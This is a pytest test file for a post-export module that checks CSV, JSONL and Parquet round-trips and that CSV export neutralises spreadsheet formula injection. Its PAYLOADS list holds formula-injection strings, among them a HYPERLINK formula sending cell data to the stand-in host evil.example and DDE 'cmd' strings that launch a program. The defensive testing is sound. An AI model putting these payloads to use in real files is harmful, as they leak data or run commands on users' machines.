"""Exports round-trip: what write_posts writes, load_posts reads back the same."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from synth.errors import InputError
from synth.io import load_posts, posts_to_bytes, write_posts


@pytest.mark.parametrize("extension", ["csv", "jsonl", "parquet"])
def test_round_trip(write, tmp_path, extension: str) -> None:
    text = 'multi\nline, "quoted" <b>post</b> 🎉'
    quoted = text.replace('"', '""')
    content = f'id,text,platform,created_at,likes\n1,"{quoted}",x,2024-01-01T00:00:00Z,5\n'
    original = load_posts(write("in.csv", content)).posts
    path = write_posts(original, tmp_path / f"out.{extension}")
    again = load_posts(path).posts
    for column in ("post_id", "platform", "text", "source"):
        assert again[column].tolist() == original[column].tolist()
    assert again["engagement"].tolist() == [5]
    assert again["created_at"].iloc[0] == pd.Timestamp("2024-01-01", tz="UTC")


def test_unknown_export_format() -> None:
    with pytest.raises(InputError, match="unknown export format 'xml'"):
        posts_to_bytes(pd.DataFrame({"a": [1]}), "xml")


PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formulas_and_jsonl_parquet_keep_the_text(tmp_path) -> None:
    posts = pd.DataFrame({"post_id": [f"p{i}" for i in range(len(PAYLOADS) + 1)],
                          "text": [*PAYLOADS, "a = b is fine inside"], "likes": [-3] * (len(PAYLOADS) + 1)})
    written = pd.read_csv(io.BytesIO(posts_to_bytes(posts, "csv")), keep_default_na=False)
    assert written["text"].tolist() == [f"'{payload}" for payload in PAYLOADS] + ["a = b is fine inside"]
    assert written["likes"].tolist() == [-3] * (len(PAYLOADS) + 1)  # numbers are not text: untouched
    assert posts["text"].tolist()[0] == PAYLOADS[0]  # the caller's frame is not changed
    jsonl = pd.read_json(io.BytesIO(posts_to_bytes(posts, "jsonl")), lines=True)
    parquet = pd.read_parquet(write_posts(posts, tmp_path / "p.parquet"))
    assert jsonl["text"].tolist()[:-1] == PAYLOADS and parquet["text"].tolist()[:-1] == PAYLOADS
